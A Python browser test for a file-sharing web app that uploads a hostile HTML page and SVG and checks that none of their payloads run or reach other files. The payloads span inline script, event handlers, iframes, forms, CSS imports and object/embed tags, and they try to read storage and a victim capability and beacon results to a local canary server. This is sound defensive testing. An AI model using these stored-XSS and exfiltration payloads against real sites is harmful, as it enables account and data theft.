"""Stored pages that mean harm: they run no script, have no origin, reach no other cap, read no storage, call nobody.

    hostile.py CONFIG.json     {"url": gateway with the token, "folder": scratch, "victim": a cap that they are after}

The pages have the address of a canary in them: a server here that notes whoever calls.
"""
import http.server, json, pathlib, sys, threading, time

sys.path.insert(0, str(pathlib.Path(__file__).parents[3] / "misc"))
from browser import browser

CALLS = []

class Canary(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        CALLS.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, *_):
        pass

SCRIPT = """
document.title = "RAN";
const tell = (what) => { navigator.sendBeacon?.("CANARY/" + what); fetch("CANARY/" + what, { mode: "no-cors" }); new Image().src = "CANARY/" + what; };
tell("ran");
try { tell("storage-" + sessionStorage.length + localStorage.length); } catch {}
try { tell("above-" + parent.document.title + opener.location.hash); } catch {}
fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ where: { cap: "VICTIM", path: [] } }) }).then((r) => r.text()).then((t) => tell("list-" + t.length));
fetch("/uri/VICTIM").then((r) => r.text()).then((t) => tell("cap-" + t.length));
"""
PAGE = """<!doctype html><title>a letter</title><h1>READ ME</h1><script>SCRIPT</script><script src="/ui/app.js"></script><script src="CANARY/script"></script>
<img src=x onerror="document.title='RAN'"><img src="CANARY/img"><link rel=stylesheet href="CANARY/css"><link rel=prefetch href="CANARY/prefetch">
<style>@import "CANARY/import"; body { background: url("CANARY/background") } @font-face { font-family: x; src: url("CANARY/font") } h1 { font-family: x }</style>
<iframe src="/uri/VICTIM"></iframe><iframe src="/"></iframe><iframe src="CANARY/frame"></iframe><iframe srcdoc="<script>parent.document.title='RAN'</script>"></iframe>
<object data="CANARY/object"></object><embed src="CANARY/embed"><video src="CANARY/video" autoplay></video>
<form id=f action="CANARY/form" method=post><input name=a value=b></form><meta http-equiv=refresh content="0;url=CANARY/refresh"><svg onload="document.title='RAN'"></svg>
<base href="CANARY/base/"><img src="relative">"""
PICTURE = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100" onload="document.title='RAN'">
<script><![CDATA[SCRIPT]]></script><circle r="50" cx="50" cy="50" fill="teal"/><image href="CANARY/image" width="9" height="9"/><use href="CANARY/use#x"/>
<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/uri/VICTIM"/></foreignObject><a href="javascript:document.title='RAN'"><text y="50">READ ME</text></a></svg>"""

def filled(text, config, canary):
    return text.replace("SCRIPT", SCRIPT).replace("CANARY", canary).replace("VICTIM", config["victim"])

def store(page, config, canary):
    """Stores both through the page, as whoever was sent them would. Gives their caps."""
    folder = pathlib.Path(config["folder"])
    for name, text in [("page.html", PAGE), ("picture.svg", PICTURE)]:
        (folder / name).write_text(filled(text, config, canary))
        page.driver.find_element("css selector", "#pick-files").send_keys(str(folder / name))
    page.sees("2 files uploaded", "#uploads")
    page.click("#uploads button", "Clear")
    return page.run_async("""
        const { get, post } = await import("/ui/api.js");
        const { aliases } = await get("aliases");
        const cap = aliases.find((one) => one.name === "home").cap;
        const out = {};
        for (const name of ["page.html", "picture.svg"]) out[name] = { cap: (await post("stat", { where: { cap, path: [name] } })).cap,
            ticket: (await post("tickets", { where: { cap, path: [name] }, as: "inline" })).url };
        return out;
    """)

def quiet(page, what):
    """Nothing ran, and nobody was called."""
    time.sleep(1.5)
    assert CALLS == [], f"{what}: {CALLS}"
    assert page.driver.title != "RAN", what

def powerless(page, what, victim):
    """Were script to run in it after all, by the developer's tools: it has no origin, and reaches nothing."""
    said = page.run_async("""
        const tried = async (work) => { try { return String(await work()); } catch (error) { return "refused: " + error.name; } };
        return {
            origin: self.origin,
            session: await tried(() => sessionStorage.length), local: await tried(() => localStorage.length), cookie: await tried(() => document.cookie),
            list: await tried(async () => (await fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ where: { cap: args[0], path: [] } }) })).status),
            cap: await tried(async () => (await fetch("/uri/" + args[0])).text()),
            health: await tried(async () => (await fetch("/healthz")).text()),
        };
    """, victim)
    assert said["origin"] == "null", (what, said["origin"])
    for name, outcome in said.items():
        assert name == "origin" or outcome.startswith("refused"), (what, name, outcome[:40])

def attack(page, base, stored, victim):
    for name, ways in stored.items():
        for way, url in [("ticket", ways["ticket"]), ("cap", "/uri/" + ways["cap"]), ("named", f"/file/{ways['cap']}/@@named=/{name}")]:
            page.open(base + url)
            page.until(f"{name} by {way}", lambda: page.run("return document.documentElement !== null") and "READ ME" in page.driver.page_source)
            quiet(page, f"{name} by {way}")
            powerless(page, f"{name} by {way}", victim)
            assert CALLS == []

def framed(page, stored):
    """In our own page, where a stored page or picture is previewed."""
    for name in stored:
        page.click("[data-deed=open]", name)
        page.until("the preview", lambda: page.run("return document.querySelector('.stage iframe, .stage img') !== null"))
        page.until("a picture", lambda: name == "page.html" or page.run("return document.querySelector('.stage img').naturalWidth > 0"))
        quiet(page, f"preview of {name}")
        if name == "page.html":
            frame = page.driver.find_element("css selector", ".stage iframe")
            assert frame.get_attribute("sandbox") == ""
            page.driver.switch_to.frame(frame)
            page.sees("READ ME")
            page.driver.switch_to.default_content()
            page.click("dialog button", "Source")
            page.sees("<!doctype html><title>a letter", ".stage pre")
        page.run("document.querySelectorAll('dialog').forEach((one) => one.close())")
        quiet(page, f"source of {name}")

def main():
    config = json.loads(pathlib.Path(sys.argv[1]).read_text())
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    canary = f"http://127.0.0.1:{server.server_port}"
    base = config["url"].split("/#")[0]
    with browser() as page:
        try:
            page.open(canary + "/works")
            assert "/works" in CALLS, "the canary sings"
            CALLS.clear()
            page.open(config["url"])
            page.click("a.alias", "home")
            page.until("the folder", lambda: " entr" in page.text(".foot"))
            stored = store(page, config, canary)
            framed(page, stored)
            attack(page, base, stored, config["victim"])
        except BaseException:
            page.driver.save_screenshot(str(pathlib.Path(config["folder"]) / "failed.png"))
            raise

main()
